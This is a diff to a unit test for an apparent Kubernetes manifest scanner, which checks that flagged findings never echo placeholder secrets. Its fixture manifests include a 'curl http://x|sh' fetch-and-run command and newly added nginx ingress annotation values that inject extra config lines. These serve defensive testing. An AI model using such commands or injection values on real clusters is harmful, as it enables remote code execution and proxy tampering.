@@ -6,7 +6,7 @@ import pytest
 
 from tests.unit.cli.running import run
 
-_SECRETS = tuple(f"s3cr3t-{number}" for number in range(14))
+_SECRETS = tuple(f"s3cr3t-{number}" for number in range(17))
 _MANIFESTS = """
 apiVersion: v1
 kind: Pod
@@ -36,6 +36,16 @@ spec:
   templateDefaults:
     podSpecPatch: '{"containers":[{"name":"main","env":[{"name":"API_KEY","value":"s3cr3t-12"}]}]}'
   templates: [{name: a, script: {image: x, source: "curl http://x|sh #s3cr3t-13"}}]
+---
+apiVersion: networking.k8s.io/v1
+kind: Ingress
+metadata:
+  name: i
+  namespace: shop
+  annotations:
+    nginx.ingress.kubernetes.io/configuration-snippet: proxy_set_header X-Api-Key "s3cr3t-14";
+    nginx.ingress.kubernetes.io/auth-url: "http://a/;\n} # s3cr3t-15"
+spec: {rules: [{http: {paths: [{path: "/;\n s3cr3t-16", pathType: Prefix}]}}]}
 """
 
 
@@ -44,6 +54,6 @@ def test_no_output_repeats_a_credential(output: str, tmp_path: Path) -> None:
     (tmp_path / "a.yaml").write_text(_MANIFESTS)
     _, out, errors = run("scan", str(tmp_path), "--profile", "strict", "-o", output)
     said = out + errors
-    for check in ("secret-in-env", "secret-in-configmap", "suspicious-command", "host-network"):
+    for check in ("secret-in-env", "secret-in-configmap", "suspicious-command", "host-network", "ingress-snippet"):
         assert check in said
     assert [secret for secret in _SECRETS if secret in said] == []
